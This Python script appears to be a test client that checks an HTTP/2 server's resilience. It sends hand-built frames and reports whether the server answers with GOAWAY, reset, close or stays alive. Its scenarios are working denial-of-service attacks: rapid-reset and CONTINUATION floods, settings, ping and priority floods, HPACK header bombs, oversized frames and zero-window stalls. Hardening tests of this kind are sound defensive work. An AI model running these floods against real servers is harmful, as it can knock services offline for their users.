#!/usr/bin/env python3
"""A client that means no good, over HTTP/2 in frames of its own: `hostile_h2.py HOST PORT SCENARIO`. Says how it ended:
`goaway CODE`, `reset`, `fin`, or `alive` if a PING was answered behind it all."""
import signal
import socket
import struct
import sys
import threading

signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
HOST, PORT = sys.argv[1], int(sys.argv[2])
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, bits, first):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value, indexed=False):
    """RFC 7541, section 6.2: a new name, no Huffman coding; added to the table or not."""
    name, value = (text.encode() if isinstance(text, str) else text for text in (name, value))
    return (b"\x40" if indexed else b"\0") + number(len(name), 7, 0) + name + number(len(value), 7, 0) + value


def request(path, method="GET"):
    return literal(":method", method) + literal(":scheme", "http") + literal(":path", path) + literal(":authority", "a")


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


class Connection:
    def __init__(self, *pairs):
        self.talk = socket.create_connection((HOST, PORT), 60)
        self.talk.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings(*pairs))
        self.buffer = b""
        # First, so that no acknowledgement of ours falls into the midst of a flood.
        next(kind for kind, flags, *_ in self.frames() if kind == SETTINGS and not flags & ACK)

    def flood(self, frames):
        """Sends while the answers are read, so that nobody waits for us; says how it ended."""
        def send():
            try:
                for some in frames:
                    self.talk.sendall(some)
                self.talk.sendall(frame(PING, 0, 0, b"the last"))
            except OSError:
                pass  # the reader sees why
        threading.Thread(target=send, daemon=True).start()
        return self.read_until(lambda kind, flags, _, payload: kind == PING and flags & ACK and payload == b"the last")

    def read_until(self, last):
        counts = {}
        try:
            for kind, flags, stream, payload in self.frames():
                counts[kind] = counts.get(kind, 0) + 1
                if kind == GOAWAY and struct.unpack(">I", payload[4:8])[0]:
                    return f"goaway {struct.unpack('>I', payload[4:8])[0]}", counts
                if last(kind, flags, stream, payload):
                    return "alive", counts
        except (ConnectionResetError, BrokenPipeError):
            return "reset", counts
        return "fin", counts

    def frames(self):
        while True:
            while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
                data = self.talk.recv(65536)
                if not data:
                    return
                self.buffer += data
            length = int.from_bytes(self.buffer[:3], "big")
            kind, flags, stream = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big") & (1 << 31) - 1
            payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                self.talk.sendall(frame(SETTINGS, ACK, 0))
            yield kind, flags, stream, payload


def streams(count):
    return range(1, 2 * count, 2)


def rapid_reset():
    return Connection().flood(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, request("/open")) + frame(RST, 0, stream, b"\0\0\0\x08")
        for stream in streams(10000))


def continuation():
    first = frame(HEADERS, 0, 1, request("/calls"))
    return Connection().flood([first] + [frame(CONTINUATION, 0, 1, literal("x", "y"))] * 10000)


def large_continuation():
    first = frame(HEADERS, 0, 1, request("/calls"))
    return Connection().flood([first] + [frame(CONTINUATION, 0, 1, literal("x", b"y" * 16000))] * 4000)


def endless_string():
    first = frame(HEADERS, 0, 1, request("/calls") + b"\0\1x" + number(1 << 27, 7, 0))
    return Connection().flood([first] + [frame(CONTINUATION, 0, 1, b"y" * 16384)] * 4000)


def settings_flood():
    return Connection().flood([settings((4, 65535))] * 10000)


def ping():
    return Connection().flood([frame(PING, 0, 0, b"01234567")] * 100000)


def empty_data():
    first = frame(HEADERS, END_HEADERS, 1, request("/calls", "POST"))
    return Connection().flood([first] + [frame(DATA, 0, 1) * 100] * 10000)


def large_list(lines=70):
    block = request("/calls") + literal("x", b"y" * 16000) * lines
    pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
    frames = [frame(HEADERS if n == 0 else CONTINUATION, (END_HEADERS if n == len(pieces) - 1 else 0) | (n == 0), 1, piece)
              for n, piece in enumerate(pieces)]
    return Connection().flood(frames)


def abusive_list():
    return large_list(140)


def hpack():
    return Connection().flood([frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff" * 100)])


def window():
    return Connection().flood([frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff")] * 2)


def stream_window():
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, request("/open"))
    return Connection().flood([first] + [frame(WINDOW, 0, 1, b"\x7f\xff\xff\xff")] * 2)


def even_stream():
    return Connection().flood([frame(HEADERS, END_HEADERS | END_STREAM, 2, request("/open"))])


def too_large_frame():
    return Connection().flood([frame(DATA, 0, 1, bytes(1 << 20))])


def priority():
    return Connection().flood([frame(2, 0, stream, b"\0\0\0\0\1") for stream in streams(50000)])


def unknown_frames():
    return Connection().flood([frame(200, 255, 7, bytes(1000))] * 20000)


def zero_window():
    """16 MiB on each of ten streams that the client has no room for."""
    connection = Connection((4, 0))
    for stream in streams(10):
        connection.talk.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, request("/big")))
    seen = set()
    connection.read_until(lambda kind, _, stream, __: kind == HEADERS and (seen.add(stream), len(seen) == 10)[1])
    print("holding 10", flush=True)
    signal.sigwait({signal.SIGUSR1})
    # Room for one of them: it arrives whole.
    connection.talk.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)) + frame(WINDOW, 0, 1, struct.pack(">I", 1 << 30)))
    heard = 0
    for kind, flags, stream, payload in connection.frames():
        if kind == DATA and stream == 1:
            heard += len(payload)
            if flags & END_STREAM:
                break
    return str(heard), {}


def header_bomb():
    """Header lists of a megabyte in a few bytes each, to a server that has room for one stream."""
    connection = Connection()
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, request("/calls") + literal("x", b"y" * 3900, True))
    block = request("/calls") + b"\xbe" * 250
    frames = [first] + [frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in streams(900)[1:]]
    # Each of the lines is a small one, too: they take more than they count.
    return connection.flood(frames)


def small_header_bomb():
    connection = Connection()
    block = request("/calls") + b"\x93" * 16000  # accept: , from the static table: 38 bytes counted, one sent
    frames = [frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in streams(900)]
    return connection.flood(frames)


names = sys.argv[3:]
for name in names:
    outcome, counts = globals()[name]()
    print(name, outcome, counts, flush=True)
